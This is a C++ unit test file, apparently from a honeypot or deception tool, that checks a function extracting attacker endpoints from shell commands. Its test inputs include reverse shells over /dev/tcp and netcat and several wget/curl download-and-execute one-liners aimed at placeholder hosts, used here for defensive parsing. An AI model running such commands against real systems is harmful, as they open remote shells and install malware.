// Endpoints a command points at, as identity evidence: download URLs with their scheme's port,
// explicit ports, scheme-less curl/wget arguments, reverse shells over /dev/tcp and netcat;
// loopback, bare words and malformed hosts are no endpoint, and one command names at most a bounded
// number.
#include "identity/infrastructure.h"

#include <gtest/gtest.h>

namespace decnet::identity {
namespace {

using Set = std::set<std::string>;

TEST(Infrastructure, DownloadsReverseShellsAndNetcat) {
  EXPECT_EQ(endpoints_in_command("wget http://198.51.100.7/x.sh -O- | sh"), Set{"198.51.100.7:80"});
  EXPECT_EQ(endpoints_in_command("curl -s HTTPS://Loader.Example:8443/bot -o /tmp/b"),
            Set{"loader.example:8443"});
  EXPECT_EQ(endpoints_in_command("tftp://10.0.0.9/mips; ftp://user:pw@files.example/x"),
            (Set{"10.0.0.9:69", "files.example:21"}));
  EXPECT_EQ(endpoints_in_command("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
            Set{"203.0.113.5:4444"});
  EXPECT_EQ(endpoints_in_command("nc -e /bin/sh c2.example 9001"), Set{"c2.example:9001"});
  EXPECT_EQ(endpoints_in_command("cd /tmp; ncat 198.51.100.9 53 -e /bin/bash"),
            Set{"198.51.100.9:53"});
  // curl and wget take a URL without its scheme too.
  EXPECT_EQ(endpoints_in_command("curl -s loader.example:8080/x.sh | sh"),
            Set{"loader.example:8080"});
  EXPECT_EQ(endpoints_in_command("wget -q 198.51.100.7/bins/arm7 -O a7"), Set{"198.51.100.7:80"});
}

TEST(Infrastructure, NothingThatIsNotAnEndpoint) {
  EXPECT_TRUE(endpoints_in_command("ls -la /var/www/html").empty());
  EXPECT_TRUE(endpoints_in_command("curl http://127.0.0.1:8080/ http://localhost/").empty());
  EXPECT_TRUE(endpoints_in_command("wget http://nodot/x").empty());
  EXPECT_TRUE(endpoints_in_command("wget http://bad$host.example/x").empty());
  EXPECT_TRUE(endpoints_in_command("nc -l 4444").empty());
  EXPECT_TRUE(endpoints_in_command("curl http://x.example:99999999/").empty());
  EXPECT_TRUE(endpoints_in_command("wget -O x.sh; curl -o out.txt /tmp/file").empty());
}

TEST(Infrastructure, OneCommandNamesABoundedNumber) {
  std::string many;
  for (int i = 0; i < 100; ++i) many += "wget http://h" + std::to_string(i) + ".example/ ; ";
  EXPECT_EQ(endpoints_in_command(many).size(), kMaxEndpointsPerCommand);
}

}  // namespace
}  // namespace decnet::identity
